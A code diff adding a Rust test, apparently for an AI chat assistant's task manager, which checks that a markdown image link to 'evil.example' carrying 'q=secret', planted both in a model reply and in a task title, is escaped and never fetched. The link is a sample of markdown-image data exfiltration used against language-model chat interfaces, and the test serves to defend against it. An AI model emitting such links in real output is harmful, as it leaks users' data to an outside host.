@@ -742,3 +742,33 @@ async fn what_is_no_request_is_told_apart() {
     assert!(answer.problem().starts_with("415 not-json"), "{answer:?}");
     assert!(answer.json()["message"].is_string());
 }
+
+#[tokio::test]
+async fn nothing_in_a_message_is_fetched_from_elsewhere() {
+    let picture = "![a](https://evil.example/?q=secret)";
+    let poisoned = Reply::text(&format!("Which vet? {picture}"));
+    let (_model, harness) = asking(Database::Sqlite, [poisoned]).await;
+    let ana = harness.user("ana").await;
+    ana.add(json!({ "title": picture, "description": "one\n# two" }))
+        .await;
+    let kit = Kit::of(&harness, &ana);
+    let (thread, events) = kit.begin("show task 1").await;
+    assert_eq!(
+        texts(&done(&events))[1],
+        "1\\. !\\[a\\](https://evil.example/?q=secret)\\\none\\\n\\# two"
+    );
+    let events = kit.say(&thread, ODD).await;
+    assert_eq!(
+        texts(&done(&events))[1],
+        "Which vet? !\\[a](https://evil.example/?q=secret)"
+    );
+    let streamed: String = events
+        .iter()
+        .filter_map(|event| event["update"]["delta"].as_str())
+        .collect();
+    assert_eq!(streamed, texts(&done(&events))[1]);
+    // A widget shows it as it is.
+    let events = kit.say(&thread, "show my tasks").await;
+    let list = &done(&events)[1];
+    assert!(list["widget"].to_string().contains(picture), "{list}");
+}
